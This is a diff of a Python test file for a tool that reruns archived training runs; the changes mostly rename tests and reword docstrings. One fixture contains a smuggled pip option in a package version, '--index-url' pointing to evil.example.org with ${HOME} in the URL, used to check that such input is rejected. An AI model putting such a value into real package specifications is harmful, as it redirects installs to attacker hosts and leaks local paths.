@@ -1,4 +1,4 @@
-"""What an archive may ask for: settings and versions, nothing of this machine."""
+"""Archives may set settings and versions of a run, and nothing on this machine."""
 
 from pathlib import Path
 from typing import Any
@@ -13,7 +13,7 @@ from tests.unit.conftest import Cli
 from tests.unit.reproduction import cases
 
 
-def test_a_run_is_repeated_with_its_resolved_settings_from_the_beginning() -> None:
+def test_run_is_repeated_from_the_start_with_resolved_settings() -> None:
     config = cases.TRAINED.config.model_copy(update={"precision": "bfloat16", "resume": "/shared/x", "restarts": 2})
     old = cases.loaded(results=cases.TRAINED.model_copy(update={"config": config}))
     settings = rerun.settings(old)
@@ -21,26 +21,26 @@ def test_a_run_is_repeated_with_its_resolved_settings_from_the_beginning() -> No
 
 
 @pytest.mark.parametrize("ended", ["max-time", "terminated"])
-def test_a_run_that_was_cut_short_makes_as_many_steps(ended: Any) -> None:
+def test_run_that_ended_early_is_repeated_for_as_many_steps(ended: Any) -> None:
     old = cases.loaded(results=cases.TRAINED.model_copy(update={"ended": ended}))
     assert rerun.settings(old).steps == 8
 
 
 @pytest.mark.parametrize("changes", [{"model": "unknown"}, {"dataset": "unknown"}])
-def test_an_unknown_model_or_data_set_is_refused(changes: dict[str, str]) -> None:
+def test_unknown_model_or_data_set_is_refused(changes: dict[str, str]) -> None:
     config = cases.TRAINED.config.model_copy(update=changes)
     with pytest.raises(ConfigError, match="'unknown' is unknown"):
         rerun.settings(cases.loaded(results=None, config=config))
 
 
-def test_it_is_launched_as_it_was() -> None:
+def test_launch_settings_are_repeated() -> None:
     options = rerun.options(cases.loaded(run=builders.run(np=3, controller="mpi", autotune=True)))
     assert options == {"launch.np": 3, "launch.controller": "mpi", "launch.cycle_time": 5.0,
                        "launch.fusion_threshold": None, "launch.autotune": True, "launch.parameter_servers": None,
                        "train.engine": "ours"}  # fmt: skip
 
 
-def test_packages_are_those_versions_and_no_words_for_pip() -> None:
+def test_packages_are_exact_versions_without_options_of_pip() -> None:
     overlay = {"einops": "0.8.0", "odd": "1.0 --index-url https://evil.example.org/${HOME}"}
     versions = rerun.versions(cases.loaded(packages=Installed(image={}, overlay=overlay)))
     assert versions is not None
@@ -58,13 +58,13 @@ def test_variables_must_be_given_again(tmp_path: Path) -> None:
     rerun.require_variables(old, {"TOKEN": "x"})
 
 
-def test_a_script_without_its_code_is_refused() -> None:
+def test_script_without_its_code_is_refused() -> None:
     with pytest.raises(ConfigError, match="its code is not in the archive"):
         rerun.source(cases.loaded())
 
 
 def changed(tmp_path: Path, **files: bytes) -> Path:
-    """An archive of a training run with other contents of some files, with the right checksums."""
+    """Write an archive of a training run with other contents of some files, and correct checksums."""
     state_dir, run = cases.trained()
     directory = state_dir.runs / run.id
     names = ("run.json", "config.json", "results.json", "provenance.json", "packages.json")
@@ -91,7 +91,7 @@ def test_hostile_files_end_with_one_message(cli: Cli, tmp_path: Path, files: dic
     assert "Traceback" not in finished.stderr
 
 
-def test_code_of_an_archive_is_not_run_unasked(cli: Cli, tmp_path: Path) -> None:
+def test_code_of_an_archive_needs_confirmation(cli: Cli, tmp_path: Path) -> None:
     (tmp_path / "code").mkdir()
     (tmp_path / "code" / "train.py").write_text("print()")
     cases.scripted(tmp_path / "code", "python", str(tmp_path / "code" / "train.py"))
